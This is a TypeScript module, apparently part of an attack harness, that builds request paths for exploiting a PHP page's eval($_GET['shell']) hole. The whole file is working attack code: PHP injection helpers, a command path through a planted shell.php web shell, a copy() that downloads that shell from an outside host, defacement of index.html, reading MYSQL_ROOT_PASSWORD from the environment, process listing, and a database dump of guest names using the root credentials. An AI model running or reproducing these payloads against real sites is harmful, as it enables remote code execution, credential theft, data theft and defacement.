/** What the attacker sends, as paths of the site. All of it goes through the page's `eval($_GET['shell'])`. */

export const DEFACEMENT = 'HACKED BY THE MOST ELITE GROUP OF HACKERS';

/** Marks the attacker's output in a page full of other text. */
const BEGIN = '<<<';
const END = '>>>';

/** PHP code through the hole. */
export function throughHole(code: string): string {
  return `/?shell=${encodeURIComponent(code)}`;
}

/** A command through the downloaded shell. */
export function throughShell(command: string): string {
  return `/shell.php?cmd=${encodeURIComponent(command)}`;
}

/** A command through the hole, its output marked. */
export function commandThroughHole(command: string): string {
  return throughHole(
    `echo "${BEGIN}"; system(${JSON.stringify(command).replaceAll('$', '\\$')}); echo "${END}";`,
  );
}

export function markedOutput(body: string): string | null {
  const start = body.indexOf(BEGIN);
  const end = body.indexOf(END, start);
  return start === -1 || end === -1 ? null : body.slice(start + BEGIN.length, end).trim();
}

export const IDENTIFY = 'system("id");';
export const DEFACE = `system("echo ${DEFACEMENT} > index.html");`;
export const DOWNLOAD = (from: string) => `copy("${from}/shell.php", "shell.php");`;
export const READ_PASSWORD = 'printenv MYSQL_ROOT_PASSWORD';
export const LIST_PROCESSES =
  'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done | sort | uniq -c';
/** The guest book, by the site's own credentials. */
export const READ_DATABASE = [
  'echo "<<<";',
  '$d = mysqli_connect(getenv("DB_HOST"), "root", getenv("MYSQL_ROOT_PASSWORD"), "guesthouse");',
  'echo implode(", ", array_column(mysqli_fetch_all(mysqli_query($d, "SELECT name FROM guests")), 0));',
  'echo ">>>";',
].join(' ');
